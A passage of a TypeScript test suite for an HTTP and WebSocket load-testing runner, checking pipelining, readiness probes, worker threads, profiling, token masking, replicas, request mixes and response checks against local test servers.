   * write: a client without pipelining would wait forever. `answer(k)` is the k-th response.
   */
  async function batching(batch: number, answer: (k: number) => string): Promise<{ url: string; most: number[] }> {
    const most: number[] = [];
    const sockets = new Set<Socket>();
    let k = 0;
    const server = createNetServer((socket) => {
      sockets.add(socket);
      socket.on('close', () => sockets.delete(socket));
      let text = '';
      socket.on('data', (d: Buffer) => {
        text += d.toString('latin1');
        const waiting = text.split('\r\n\r\n').length - 1;
        most.push(waiting);
        if (waiting < batch) return;
        text = text.split('\r\n\r\n').slice(waiting).join('\r\n\r\n');
        let out = '';
        for (let j = 0; j < waiting; j++) out += answer(k++);
        socket.write(out);
      });
    });
    await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
    rawServers.push({
      close: () => {
        server.close();
        for (const s of sockets) s.destroy();
      },
    });
    return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/x`, most };
  }

  const ok = () => 'HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok';

  it('keeps 4 requests in flight on each connection; several responses in one read are each counted', async () => {
    const { url, most } = await batching(4, ok);
    const t = await runClosed(request(url), 2, { requests: 400 }, 2000, 4).done;
    expect(t.errors).toEqual({});
    expect(t.sent).toBe(400);
    expect(t.successes).toBe(400);
    expect(decodeHistogram(t.histogram).totalCount).toBe(400);
    // never more than 4 waiting on a socket
    expect(Math.max(...most)).toBe(4);
  });

  it('without pipelining the same server never answers: every request times out (what the test above relies on)', async () => {
    const { url } = await batching(4, ok);
    const t = await runClosed(request(url), 2, { durationMs: 300 }, 200).done;
    expect(t.successes).toBe(0);
    expect(t.errors.timeout).toBe(t.sent);
  });

  it('a Connection: close answer: the requests queued behind it, never read, go out again on a new connection', async () => {
    // every 5th response closes the connection; the 3 requests written behind it were never read
    const { url } = await batching(4, (k) =>
      k % 5 === 4 ? 'HTTP/1.1 200 OK\r\nConnection: close\r\nContent-Length: 2\r\n\r\nok' : ok(),
    );
    const t = await runClosed(request(url), 1, { requests: 200 }, 2000, 4).done;
    expect(t.errors).toEqual({});
    // counted as sent once, answered once
    expect(t.sent).toBe(200);
    expect(t.successes).toBe(200);
    expect(t.connectionCloses).toBeGreaterThanOrEqual(39);
  });

  it('a server that just closes (no Connection: close) after two answers: what it may have read is lost, each counted', async () => {
    let answered = 0;
    const sockets = new Set<Socket>();
    const server = createNetServer((socket) => {
      sockets.add(socket);
      let n = 0;
      socket.on('data', (d: Buffer) => {
        const waiting = d.toString('latin1').split('\r\n\r\n').length - 1;
        for (let j = 0; j < waiting && n < 2; j++, n++, answered++) socket.write(ok());
        if (n >= 2) socket.end();
      });
    });
    await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
    rawServers.push({
      close: () => {
        server.close();
        for (const s of sockets) s.destroy();
      },
    });
    const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}/x`;
    const t = await runClosed(request(url), 1, { requests: 100 }, 2000, 4).done;
    expect(t.successes).toBe(answered);
    expect(t.errors['socket-closed']).toBeGreaterThan(0);
    // every request written is answered or failed, and the phase's count is kept
    expect(t.responses + (t.errors['socket-closed'] ?? 0)).toBe(t.sent);
    expect(t.sent).toBe(100);
  });

  it('a server that never answers: every pipelined request fails as timeout, none vanish', async () => {
    const { url } = await batching(1_000_000, ok);
    const t = await runClosed(request(url), 2, { durationMs: 300 }, 200, 4).done;
    expect(t.responses).toBe(0);
    expect(t.sent).toBeGreaterThanOrEqual(8);
    expect(t.errors).toEqual({ timeout: t.sent });
  });
});

describe('ready probes against 127.0.0.1', () => {
  it('tcp://host:port is ready once it accepts a connection; a closed port says why, on time', async () => {
    const sockets = new Set<Socket>();
    const server = createNetServer((s) => {
      sockets.add(s);
      s.on('close', () => sockets.delete(s));
    });
    await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
    const { port } = server.address() as AddressInfo;
    try {
      expect(await waitReady(`tcp://127.0.0.1:${port}`, 2000)).toBeUndefined();
    } finally {
      server.close();
      for (const s of sockets) s.destroy();
    }
    const started = performance.now();
    // the port was just freed: nothing listens there now
    expect(await waitReady(`tcp://127.0.0.1:${port}`, 700)).toBe('ECONNREFUSED');
    expect(performance.now() - started).toBeLessThan(5000);
    expect(tcpProbeAddress('tcp://[::1]:6379/')).toEqual({ host: '::1', port: 6379 });
    expect(tcpProbeAddress('http://127.0.0.1:80/')).toBeUndefined();
  });

  it('an HTTP probe still asks for 2xx/3xx', async () => {
    let status = 503;
    const { url } = await serve((_req, res) => {
      res.statusCode = status;
      res.end();
    });
    expect(await waitReady(url, 600)).toBe('HTTP 503');
    status = 204;
    expect(await waitReady(url, 2000)).toBeUndefined();
  });
});

/**
 * dist/runner.mjs on `plan` (written to `dir`), one trial of scenario `s` for each of `phases` on its
 * stdin, then `end`: its stdout. The server runs in this process, so the runner must not block it:
 * it is spawned asynchronously.
 */
function builtRunner(
  dir: string,
  plan: RunnerPlan,
  phases: string[],
  extra: Record<string, unknown> = {},
): Promise<string> {
  writeFileSync(join(dir, 'plan.json'), JSON.stringify(plan));
  return new Promise<string>((resolve, reject) => {
    const child = spawn(process.execPath, [join(ROOT, 'dist/runner.mjs'), join(dir, 'plan.json')], {
      stdio: ['pipe', 'pipe', 'inherit'],
    });
    // the long-lived runner takes one trial per command on stdin, then ends
    for (const phase of phases) {
      child.stdin.write(`${JSON.stringify({ c: 'trial', scenario: 's', phase, trial: 1, trials: 1, ...extra })}\n`);
    }
    child.stdin.end(`${JSON.stringify({ c: 'end' })}\n`);
    let text = '';
    child.stdout.setEncoding('utf8').on('data', (d: string) => (text += d));
    child.on('error', reject);
    child.on('close', () => resolve(text));
  });
}

describe('runner.workers through the built runner (dist/runner.mjs)', () => {
  it('runs one schedule across worker threads and merges their histograms', async () => {
    const { url } = await serve((_req, res) => setTimeout(() => res.end('ok'), 1));
    const dir = mkdtempSync(join(tmpdir(), 'perf-gate-workers-'));
    const plan: RunnerPlan = {
      version: 1,
      progressIntervalMs: 1000,
      requestTimeoutMs: 2000,
      workers: 3,
      ready: [],
      scenarios: [
        {
          name: 's',
          target: { kind: 'http', ...request(url) },
          warmupMs: 0,
          trials: 1,
          phases: [
            { kind: 'open', name: 'r150', rate: 150, durationMs: 2000, maxInFlight: 30 },
            { kind: 'closed', name: 'n300', connections: 5, requests: 300 },
          ],
        },
      ],
    };
    const out = await builtRunner(dir, plan, ['r150', 'n300']);
    const trials = out
      .split('\n')
      .filter((l) => l.startsWith(EVENT_MARKER))
      .map((l) => JSON.parse(l.slice(EVENT_MARKER.length)) as RunnerEvent)
      .filter((e): e is Extract<RunnerEvent, { t: 'trial' }> => e.t === 'trial');
    expect(trials.map((e) => e.phase)).toEqual(['r150', 'n300']);
    const [rate, count] = trials.map((e) => e.measurement) as [TrialMeasurement, TrialMeasurement];
    expect(rate.generator.threads).toBe(3);
    expect(rate.open).toMatchObject({ scheduled: 300, unfinished: 0 });
    expect(rate.responses).toBe(300);
    expect(decodeHistogram(trials[0]?.histogram ?? '').totalCount).toBe(300);
    expect(count.generator.threads).toBe(3);
    expect(count.responses).toBe(300);
    expect(count.latency.count).toBe(300);
  });
});

describe('sut.profile through the built runner (dist/runner.mjs)', () => {
  it('a profiling trial: each service’s profile over the window, or why not, before the trial it was taken in', async () => {
    const { url } = await serve((_req, res) => res.end('ok'));
    const profile = readFileSync(join(ROOT, 'fixtures/pprof/head.pb.gz'));
    const asked: string[] = [];
    // pprof's way: the answer comes once the seconds asked for are over
    const pprof = await serve((req, res) => {
      asked.push(req.url ?? '');
      if (!req.url?.startsWith('/debug/pprof/profile')) {
        res.statusCode = 404;
        res.end('404 page not found');
        return;
      }
      const seconds = Number(new URL(req.url, 'http://x').searchParams.get('seconds'));
      setTimeout(() => res.end(profile), seconds * 1000);
    });
    const origin = new URL(pprof.url).origin;
    const closed = await serve((_req, res) => res.end());
    closed.close();
    const dir = mkdtempSync(join(tmpdir(), 'perf-gate-profile-'));
    const plan: RunnerPlan = {
      version: 1,
      progressIntervalMs: 1000,
      requestTimeoutMs: 2000,
      ready: [],
      scenarios: [
        {
          name: 's',
          target: { kind: 'http', ...request(url) },
          warmupMs: 0,
          trials: 1,
          phases: [{ kind: 'open', name: 'r50', rate: 50, durationMs: 1000, maxInFlight: 10 }],
        },
      ],
    };
    const out = await builtRunner(dir, plan, ['r50'], {
      profile: [
        // the host asks for the window's seconds (session/measure.ts profileTrials)
        { service: 'api', url: `${origin}/debug/pprof/profile?seconds=1` },
        { service: 'web', url: `${origin}/nothing` },
        { service: 'db', url: `${new URL(closed.url).origin}/debug/pprof/profile` },
      ],
    });
    const events = out
      .split('\n')
      .filter((l) => l.startsWith(EVENT_MARKER))
      .map((l) => JSON.parse(l.slice(EVENT_MARKER.length)) as RunnerEvent)
      .filter((e) => e.t === 'profile' || e.t === 'trial');
    expect(events.map((e) => (e.t === 'profile' ? `profile ${e.service}` : e.t))).toEqual([
      'profile api',
      'profile web',
      'profile db',
      'trial',
    ]);
    const [api, web, db, trial] = events as [
      Extract<RunnerEvent, { t: 'profile' }>,
      Extract<RunnerEvent, { t: 'profile' }>,
      Extract<RunnerEvent, { t: 'profile' }>,
      Extract<RunnerEvent, { t: 'trial' }>,
    ];
    // the window's seconds asked for, and the bytes passed on as served
    expect(asked).toContain('/debug/pprof/profile?seconds=1');
    expect(Buffer.from(api.data ?? '', 'base64').equals(profile)).toBe(true);
    expect(web).toMatchObject({ error: 'HTTP 404: 404 page not found' });
    expect(db.error).toBe('ECONNREFUSED');
    expect(trial.profiled).toBe(true);
    expect(trial.measurement.responses).toBe(50);
  });
});

describe('setup and data rows through the built runner (dist/runner.mjs)', () => {
  it('logs in once, then 3 worker threads send every row once, each with the token', async () => {
    const seen: Array<{ url: string; auth?: string }> = [];
    let logins = 0;
    const { url } = await serve((req, res) => {
      if (req.url === '/login') {
        logins++;
        res.setHeader('content-type', 'application/json');
        return res.end('{"token":"T-9"}');
      }
      seen.push({ url: req.url as string, ...(req.headers.authorization ? { auth: req.headers.authorization } : {}) });
      res.end('ok');
    });
    const origin = new URL(url).origin;
    const dir = mkdtempSync(join(tmpdir(), 'perf-gate-setup-'));
    const plan: RunnerPlan = {
      version: 1,
      progressIntervalMs: 1000,
      requestTimeoutMs: 2000,
      workers: 3,
      ready: [],
      setup: [
        {
          name: 'login',
          request: { url: `${origin}/login`, method: 'POST', headers: {}, body: '{}' },
          extract: [{ name: 'token', rule: { json: '$.token' } }],
        },
      ],
      scenarios: [
        {
          name: 's',
          target: {
            kind: 'http',
            request: { url: `${origin}/row/{{data.n}}`, method: 'GET', headers: { authorization: 'Bearer ${token}' } },
            data: { columns: ['n'], rows: Array.from({ length: 30 }, (_, i) => [String(i)]), order: 'sequential' },
          },
          warmupMs: 0,
          trials: 1,
          phases: [{ kind: 'closed', name: 'n30', connections: 3, requests: 30 }],
        },
      ],
    };
    const out = await builtRunner(dir, plan, ['n30']);
    const events = out
      .split('\n')
      .filter((l) => l.startsWith(EVENT_MARKER))
      .map((l) => JSON.parse(l.slice(EVENT_MARKER.length)) as RunnerEvent);
    expect(events.find((e) => e.t === 'setup')).toMatchObject({ t: 'setup', values: ['token'] });
    // the runner says which values, never what they are
    expect(out).not.toContain('T-9');
    expect(logins).toBe(1);
    expect(seen).toHaveLength(30);
    expect(seen.every((s) => s.auth === 'Bearer T-9')).toBe(true);
    expect(seen.map((s) => Number(s.url.split('/').pop())).sort((a, b) => a - b)).toEqual(
      Array.from({ length: 30 }, (_, i) => i),
    );
  });
});

describe('a script hook through the built runner (dist/runner.mjs)', () => {
  it('is imported in each of 2 worker threads; its time is reported as the generator’s', async () => {
    const seen: string[] = [];
    const { url } = await serve((req, res) => {
      seen.push(req.url as string);
      res.end('ok');
    });
    const source = `export function request(ctx) { return { path: '/h/' + ctx.n }; }`;
    const dir = mkdtempSync(join(tmpdir(), 'perf-gate-hook-'));
    const plan: RunnerPlan = {
      version: 1,
      progressIntervalMs: 1000,
      requestTimeoutMs: 2000,
      workers: 2,
      ready: [],
      scenarios: [
        {
          name: 's',
          target: { kind: 'http', ...request(url), hook: { file: 'h.mjs', source } },
          warmupMs: 0,
          trials: 1,
          phases: [{ kind: 'closed', name: 'n20', connections: 2, requests: 20 }],
        },
      ],
    };
    const out = await builtRunner(dir, plan, ['n20']);
    const trial = out
      .split('\n')
      .filter((l) => l.startsWith(EVENT_MARKER))
      .map((l) => JSON.parse(l.slice(EVENT_MARKER.length)) as RunnerEvent)
      .find((e): e is Extract<RunnerEvent, { t: 'trial' }> => e.t === 'trial');
    expect(trial?.measurement.successes).toBe(20);
    expect(trial?.measurement.generator.threads).toBe(2);
    expect(trial?.measurement.generator.hook?.calls).toBe(20);
    // each thread counts its own n from 0: two of each of /h/0 … /h/9
    expect(seen.filter((u) => u === '/h/0')).toHaveLength(2);
  });
});

describe('runner replicas through the built runner (dist/runner.mjs)', () => {
  /** runs one replica of `plan` (its index in `env`) to its end; its events */
  function replica(
    plan: RunnerPlan,
    env: Record<string, string>,
    args: string[] = [],
  ): Promise<{ code: number; events: RunnerEvent[] }> {
    const dir = mkdtempSync(join(tmpdir(), 'perf-gate-replica-'));
    writeFileSync(join(dir, 'plan.json'), JSON.stringify(plan));
    return new Promise((resolve, reject) => {
      const child = spawn(process.execPath, [join(ROOT, 'dist/runner.mjs'), join(dir, 'plan.json'), ...args], {
        stdio: ['ignore', 'pipe', 'inherit'],
        env: { ...process.env, PERF_GATE_REPLICA: '', PERF_GATE_SWARM_SLOT: '', JOB_COMPLETION_INDEX: '', ...env },
      });
      let text = '';
      child.stdout.setEncoding('utf8').on('data', (d: string) => (text += d));
      child.on('error', reject);
      child.on('close', (code) =>
        resolve({
          code: code ?? -1,
          events: text
            .split('\n')
            .filter((l) => l.startsWith(EVENT_MARKER))
            .map((l) => JSON.parse(l.slice(EVENT_MARKER.length)) as RunnerEvent),
        }),
      );
    });
  }

  function replicaPlan(url: string, phase: RunnerPlan['scenarios'][number]['phases'][number], startInMs: number) {
    const plan: RunnerPlan = {
      version: 1,
      progressIntervalMs: 1000,
      requestTimeoutMs: 2000,
      ready: [{ url, timeoutMs: 5000 }],
      scenarios: [{ name: 's', target: { kind: 'http', ...request(url) }, warmupMs: 300, trials: 1, phases: [phase] }],
      replicas: {
        count: 2,
        trial: { scenario: 's', phase: phase.name, trial: 1, trials: 1 },
        startAtEpochMs: Date.now() + startInMs,
      },
    };
    return plan;
  }

  const trialOf = (events: RunnerEvent[]) =>
    events.find((e): e is Extract<RunnerEvent, { t: 'trial' }> => e.t === 'trial');
  const measureStart = (events: RunnerEvent[]) =>
    events.find((e): e is Extract<RunnerEvent, { t: 'stage' }> => e.t === 'stage' && e.stage === 'measure')?.atEpochMs;

  it('two replicas split one open-loop schedule and one request count; their trials merge into the whole', async () => {
    let served = 0;
    const { url } = await serve((_req, res) => {
      served++;
      res.end('ok');
    });
    const openPlan = replicaPlan(
      url,
      { kind: 'open', name: 'r200', rate: 200, durationMs: 1000, maxInFlight: 20 },
      1500,
    );
    // swarm's slot 1 is replica 0; a Kubernetes index is the replica's
    const [a, b] = await Promise.all([
      replica(openPlan, { PERF_GATE_SWARM_SLOT: '1' }),
      replica(openPlan, { JOB_COMPLETION_INDEX: '1' }),
    ]);
    for (const r of [a, b]) expect(r.code).toBe(0);
    expect(a.events.find((e) => e.t === 'hello')).toMatchObject({ replica: 0 });
    expect(b.events.find((e) => e.t === 'hello')).toMatchObject({ replica: 1 });
    const [ta, tb] = [trialOf(a.events), trialOf(b.events)];
    // each replica kept half of the one schedule (stride 2), none of it twice
    expect(ta?.measurement.open?.scheduled).toBe(100);
    expect(tb?.measurement.open?.scheduled).toBe(100);
    const merged = mergeReplicaTrials([ta!, tb!], [measureStart(a.events)!, measureStart(b.events)!]);
    expect(merged.measurement.open?.scheduled).toBe(200);
    expect(merged.measurement.responses).toBe(ta!.measurement.responses + tb!.measurement.responses);
    expect(decodeHistogram(merged.histogram).totalCount).toBe(merged.measurement.successes);
    expect(merged.measurement.replicas?.count).toBe(2);
    expect(merged.measurement.replicas?.startSkewMs).toBeGreaterThanOrEqual(0);
    // both stages of both replicas said when they started
    for (const r of [a, b]) {
      const starts = r.events.filter((e) => e.t === 'stage').map((e) => (e as { atEpochMs?: number }).atEpochMs);
      expect(starts).toHaveLength(2);
      for (const at of starts) expect(at).toBeGreaterThanOrEqual(openPlan.replicas!.startAtEpochMs);
    }

    served = 0;
    const countPlan = replicaPlan(url, { kind: 'closed', name: 'n301', connections: 5, requests: 301 }, 1500);
    const [c, d] = await Promise.all([
      replica(countPlan, { PERF_GATE_REPLICA: '0' }),
      replica(countPlan, { PERF_GATE_REPLICA: '1' }),
    ]);
    const [tc, td] = [trialOf(c.events), trialOf(d.events)];
    // instance 0 (3 connections, 151 requests) in replica 0, instance 1 (2, 150) in replica 1: exactly 301
    expect(tc!.measurement.responses + td!.measurement.responses).toBe(301);
    expect(tc!.measurement.responses).toBeGreaterThan(td!.measurement.responses);
    expect(served).toBeGreaterThanOrEqual(301);
  });

  it('a replica ready after the common start is late: it says so and fails without sending', async () => {
    let served = 0;
    const { url } = await serve((_req, res) => {
      served++;
      res.end('ok');
    });
    const plan = replicaPlan(url, { kind: 'closed', name: 'c2', connections: 2, durationMs: 500 }, -1000);
    const r = await replica(plan, { PERF_GATE_REPLICA: '1' });
    expect(r.code).toBe(1);
    expect(r.events.at(-1)).toMatchObject({
      t: 'fatal',
      message: expect.stringMatching(/^late: ready \d+ ms after the common start/),
    });
    expect(r.events.some((e) => e.t === 'stage')).toBe(false);
    // only the ready probe reached the server
    expect(served).toBe(1);
  });

  it('a setup that fails is exit 3 with its event, before ready: a swarm task that failed, its account in its log', async () => {
    let served = 0;
    const { url } = await serve((req, res) => {
      served++;
      res.statusCode = req.url === '/login' ? 401 : 200;
      res.end(req.url === '/login' ? 'no' : 'ok');
    });
    const origin = new URL(url).origin;
    const plan: RunnerPlan = {
      ...replicaPlan(url, { kind: 'closed', name: 'c2', connections: 2, durationMs: 500 }, 3000),
      setup: [
        {
          name: 'login',
          request: { url: `${origin}/login`, method: 'POST', headers: {} },
          extract: [{ name: 'token', rule: { json: '$.token' } }],
        },
      ],
    };
    const r = await replica(plan, { PERF_GATE_REPLICA: '0' });
    expect(r.code).toBe(3);
    expect(r.events.at(-1)).toEqual({
      t: 'setup-failed',
      step: 'login',
      message: 'HTTP 401, body "no": not a 2xx or 3xx status',
    });
    expect(r.events.some((e) => e.t === 'ready')).toBe(false);
    // the ready probe and the login only
    expect(served).toBe(2);
  });

  it('an extracted value is masked in what the runner says: a WebSocket URL no peer could connect to', async () => {
    const token = 'tok-0123456789abcdef';
    // answers the login with a token; an upgrade it has no handler for is refused (the socket closed)
    const { url } = await serve((_req, res) => res.end(JSON.stringify({ token })));
    const origin = new URL(url).origin;
    const ws = origin.replace('http://', 'ws://');
    const { replicas: _one, ...plan }: RunnerPlan = {
      ...replicaPlan(url, { kind: 'ws', name: 'w2', peers: 2, messages: 1 }, 3000),
      setup: [
        {
          name: 'login',
          request: { url: `${origin}/login`, method: 'POST', headers: {} },
          extract: [{ name: 'token', rule: { json: '$.token' } }],
        },
      ],
    };
    plan.scenarios[0]!.target = {
      kind: 'ws',
      websocket: { url: `${ws}/room?t=\${token}`, headers: {}, hello: [], message: '{{id}}', drainMs: 100 },
    };
    // one runner, every trial of the plan in order (`--all`)
    const r = await replica(plan, {}, ['--all']);
    expect(r.code).toBe(1);
    const fatal = r.events.at(-1) as Extract<RunnerEvent, { t: 'fatal' }>;
    expect(fatal.message).toContain(`${ws}/room?t=***: no peer could connect`);
    expect(JSON.stringify(r.events)).not.toContain(token);
  });

  it('a replica without an index fails at once', async () => {
    const plan = replicaPlan(
      'http://127.0.0.1:9/x',
      { kind: 'closed', name: 'c2', connections: 2, durationMs: 500 },
      1000,
    );
    const r = await replica(plan, {});
    expect(r.code).toBe(1);
    expect(r.events.at(-1)).toMatchObject({
      t: 'fatal',
      message: expect.stringContaining('JOB_COMPLETION_INDEX are all unset'),
    });
  });
});

describe('a request mix against 127.0.0.1', () => {
  /** a server answering /fast at once, /slow after `slowMs`, anything else 404, counting requests per path */
  async function mixServer(slowMs = 30) {
    const seen: Record<string, number> = {};
    const { url } = await serve((req, res) => {
      const path = (req.url ?? '').split('?')[0] as string;
      seen[path] = (seen[path] ?? 0) + 1;
      if (path === '/fast') res.end('fast');
      else if (path === '/slow') setTimeout(() => res.end('slow'), slowMs);
      else {
        res.statusCode = 404;
        res.end();
      }
    });
    const origin = url.replace(/\/x$/, '');
    const entry = (name: string, weight: number, path: string) => ({
      name,
      weight,
      request: { url: `${origin}${path}`, method: 'GET', headers: {} },
    });
    const mix = [entry('fast', 3, '/fast'), entry('slow', 1, '/slow'), entry('gone', 1, '/gone')];
    return { seen, load: { request: mix[0]!.request, mix } };
  }

  it('closed loop: each entry counted apart, by weight, with its own latency; the phase is their sum', async () => {
    const { seen, load } = await mixServer();
    const t = await runClosed(load, 4, { requests: 500 }, 2000).done;
    const [fast, slow, gone] = t.requests ?? [];
    // what the server saw is what each entry counted
    expect([fast?.responses, slow?.responses, gone?.responses]).toEqual([seen['/fast'], seen['/slow'], seen['/gone']]);
    expect(t.responses).toBe(500);
    expect((fast?.sent ?? 0) + (slow?.sent ?? 0) + (gone?.sent ?? 0)).toBe(t.sent);
    // 3:1:1 of 500, exact up to the requests in flight when the count was reached
    expect(fast?.responses).toBeGreaterThanOrEqual(296);
    expect(fast?.responses).toBeLessThanOrEqual(304);
    expect(gone).toMatchObject({ successes: 0, statusCodes: { '404': gone?.responses } });
    expect(t.statusCodes['404']).toBe(gone?.responses);
    // latency histograms are the entry's own: every /slow answer waited 30 ms, no /fast one did
    const pct = (h: string, q: number) => {
      const d = decodeHistogram(h);
      const v = d.getValueAtPercentile(q);
      d.destroy();
      return v;
    };
    expect(pct(slow?.histogram as string, 1)).toBeGreaterThanOrEqual(29_000);
    expect(pct(fast?.histogram as string, 50)).toBeLessThan(29_000);
    expect(decodeHistogram(gone?.histogram as string).totalCount).toBe(0);
  });

  it('open loop: the mix keeps the schedule, and a failed request is the entry’s error', async () => {
    // /slow takes 300 ms; with a 50 ms timeout every /slow request fails as a timeout of that entry
    const { seen, load } = await mixServer(300);
    const t = await runOpen({
      load,
      schedule: { startAt: performance.now(), rate: 100, durationMs: 2000, stride: 1, offset: 0 },
      connections: 50,
      timeoutMs: 50,
    }).done;
    const [fast, slow, gone] = t.requests ?? [];
    expect(t.open?.scheduled).toBe(200);
    expect([fast?.sent, slow?.sent, gone?.sent]).toEqual([120, 40, 40]);
    expect(fast?.responses).toBe(seen['/fast']);
    expect(slow).toMatchObject({ responses: 0, errors: { timeout: 40 } });
    expect(t.errors.timeout).toBe(40);
  });
});

describe('response checks (expect) and a request’s own timeout against 127.0.0.1', () => {
  /** A GraphQL-like service: every 4th answer is 200 with an `errors` field; chunked answers on /chunked. */
  async function graphql() {
    let n = 0;
    const { url } = await serve((req, res) => {
      n++;
      res.setHeader('content-type', 'application/json');
      const body = n % 4 === 0 ? '{"data":null,"errors":[{"message":"boom"}]}' : '{"data":{"id":42}}';
      if ((req.url ?? '').startsWith('/chunked')) {
        // two writes without a length: chunked framing, the JSON split across chunks
        res.write(body.slice(0, 9));
        setImmediate(() => res.end(body.slice(9)));
      } else res.end(body);
    });
    return url.replace(/\/x$/, '');
  }

  it.each(['/graphql', '/chunked'])(
    'closed loop, %s: 200 with errors fails expect-json; the others are successes with latency',
    async (path) => {
      const origin = await graphql();
      const load = {
        request: {
          url: `${origin}${path}`,
          method: 'POST',
          headers: {},
          body: '{"query":"{ x }"}',
          expect: { headers: { 'content-type': 'json' }, json: [{ path: '$.errors', exists: false }] },
        },
      };
      const t = await runClosed(load, 2, { requests: 200 }, 2000).done;
      expect(t.responses).toBe(200);
      expect(t.statusCodes).toEqual({ '200': 200 });
      expect(t.checks).toEqual({ 'expect-json': 50 });
      expect(t.failures).toBe(50);
      expect(t.successes).toBe(150);
      expect(t.errors).toEqual({});
      expect(decodeHistogram(t.histogram).totalCount).toBe(150);
    },
  );

  it('the next scenario’s checks hold on connections parked by the one before (same host and port)', async () => {
    const { url } = await serve((_req, res) => res.end('ok'));
    const schedule = () => ({ startAt: performance.now(), rate: 100, durationMs: 500, stride: 1, offset: 0 });
    // the first leaves idle connections parked; the second has one, taken from the lot: all its requests go over it
    const first = await runOpen({ load: request(url), schedule: schedule(), connections: 3, timeoutMs: 2000 }).done;
    expect(first).toMatchObject({ responses: 50, successes: 50 });
    // at once, within the parking time: the second scenario takes the first one's idle connections
    const load = { request: { url, method: 'GET', headers: {}, expect: { status: [201] } } };
    const second = await runOpen({ load, schedule: schedule(), connections: 1, timeoutMs: 2000 }).done;
    expect(second).toMatchObject({ responses: 50, successes: 0, failures: 50, checks: { 'expect-status': 50 } });
  });

  it('without checks the same service is all successes (what the checks are for)', async () => {
    const origin = await graphql();
    const t = await runClosed(request(`${origin}/graphql`), 2, { requests: 100 }, 2000).done;
    expect(t).toMatchObject({ responses: 100, successes: 100, failures: 0 });
    expect(t.checks).toBeUndefined();
  });

  it('open loop, a mix: each entry its own checks and its own timeout', async () => {
    const { url } = await serve((req, res) => {
      if ((req.url ?? '').startsWith('/slow')) setTimeout(() => res.end('slow'), 200);
      else {
        res.statusCode = 201;
        res.end('created');
      }
    });
    const origin = url.replace(/\/x$/, '');
    const mix = [
      // a 201 where only 200 is expected: expect-status
      {
        name: 'make',
        weight: 1,
        request: { url: `${origin}/make`, method: 'GET', headers: {}, expect: { status: [200] } },
      },
      // its own 50 ms timeout, shorter than the scenario's 2 s: every one times out
      { name: 'slow', weight: 1, request: { url: `${origin}/slow`, method: 'GET', headers: {}, timeoutMs: 50 } },
      // the scenario's timeout, a body check that holds
      {
        name: 'ok',
        weight: 2,
        request: { url: `${origin}/ok`, method: 'GET', headers: {}, expect: { body: ['created'] } },
      },
    ];
    const t = await runOpen({
      load: { request: mix[0]!.request, mix },
      schedule: { startAt: performance.now(), rate: 100, durationMs: 1000, stride: 1, offset: 0 },
      connections: 40,
      timeoutMs: 2000,
    }).done;
    const [make, slow, ok] = t.requests ?? [];
    expect(t.open?.scheduled).toBe(100);
    expect(make).toMatchObject({
      sent: 25,
      responses: 25,
      successes: 0,
      failures: 25,
      checks: { 'expect-status': 25 },
    });
    expect(slow).toMatchObject({ sent: 25, responses: 0, errors: { timeout: 25 } });
    expect(ok).toMatchObject({ sent: 50, responses: 50, successes: 50, failures: 0 });
    expect(ok?.checks).toBeUndefined();
    expect(t.checks).toEqual({ 'expect-status': 25 });
  });
});

describe('a WebSocket script hook: signed hellos, encrypted messages (issue 34)', () => {
  // each peer makes its own ed25519 and X25519 key pairs, signs its hello, and encrypts every message
  // (AES-256-GCM, the key from X25519 with the broker's key, which the broker's welcome carries);
  // peer 2 signs with a key that is not the one it announces
  const HOOK = `import { createCipheriv, createHash, createPublicKey, diffieHellman, generateKeyPairSync, randomBytes, sign } from 'node:crypto';
const der = (k) => k.export({ type: 'spki', format: 'der' }).toString('base64');
export function hello(peer) {
  const ed = generateKeyPairSync('ed25519');
  const x = generateKeyPairSync('x25519');
  peer.state.x = x.privateKey;
  const box = der(x.publicKey);
  const signer = peer.index === 2 ? generateKeyPairSync('ed25519').privateKey : ed.privateKey;
  const sig = sign(null, Buffer.from('hello:' + peer.index + ':' + box), signer).toString('base64');
  return [JSON.stringify({ type: 'hello', peer: peer.index, sign: der(ed.publicKey), box, sig })];
}
export function reply(peer, text) {
  const broker = createPublicKey({ key: Buffer.from(JSON.parse(text).box, 'base64'), format: 'der', type: 'spki' });
  peer.state.key = createHash('sha256').update(diffieHellman({ privateKey: peer.state.x, publicKey: broker })).digest();
}
export function message(peer, text) {
  const m = JSON.parse(text);
  const iv = randomBytes(12);
  const c = createCipheriv('aes-256-gcm', peer.state.key, iv);
  c.setAAD(Buffer.from(m.id));
  const body = Buffer.concat([c.update(JSON.stringify({ n: m.n })), c.final(), c.getAuthTag()]);
  return JSON.stringify({ type: 'dm', id: m.id, to: m.to, iv: iv.toString('base64'), body: body.toString('base64') });
}
`;

  it('the broker verifies every hello and decrypts every message; the peer with a wrong key is counted', async () => {
    const { createDecipheriv, createHash, createPublicKey, diffieHellman, generateKeyPairSync, verify } =
      await import('node:crypto');
    const brokerKey = generateKeyPairSync('x25519');
    const brokerBox = brokerKey.publicKey.export({ type: 'spki', format: 'der' }).toString('base64');
    const keys = new Map<number, Buffer>();
    const peers = new Map<number, WebSocket>();
    let decrypted = 0;
    const http = createServer();
    const wss = new WebSocketServer({ server: http });
    wss.on('connection', (ws) => {
      let me = -1;
      ws.on('message', (data) => {
        const m = JSON.parse(String(data)) as Record<string, string | number>;
        if (m.type === 'hello') {
          const signer = createPublicKey({ key: Buffer.from(String(m.sign), 'base64'), format: 'der', type: 'spki' });
          const signed = Buffer.from(`hello:${m.peer}:${m.box}`);
          if (!verify(null, signed, signer, Buffer.from(String(m.sig), 'base64')))
            return ws.close(4003, 'bad signature');
          me = Number(m.peer);
          const theirs = createPublicKey({ key: Buffer.from(String(m.box), 'base64'), format: 'der', type: 'spki' });
          keys.set(
            me,
            createHash('sha256')
              .update(diffieHellman({ privateKey: brokerKey.privateKey, publicKey: theirs }))
              .digest(),
          );
          peers.set(me, ws);
          return ws.send(JSON.stringify({ type: 'welcome', box: brokerBox }));
        }
        const sealed = Buffer.from(String(m.body), 'base64');
        const d = createDecipheriv('aes-256-gcm', keys.get(me) as Buffer, Buffer.from(String(m.iv), 'base64'));
        d.setAAD(Buffer.from(String(m.id)));
        d.setAuthTag(sealed.subarray(sealed.length - 16));
        const plain = JSON.parse(
          Buffer.concat([d.update(sealed.subarray(0, sealed.length - 16)), d.final()]).toString(),
        );
        if (typeof plain.n === 'number') decrypted++;
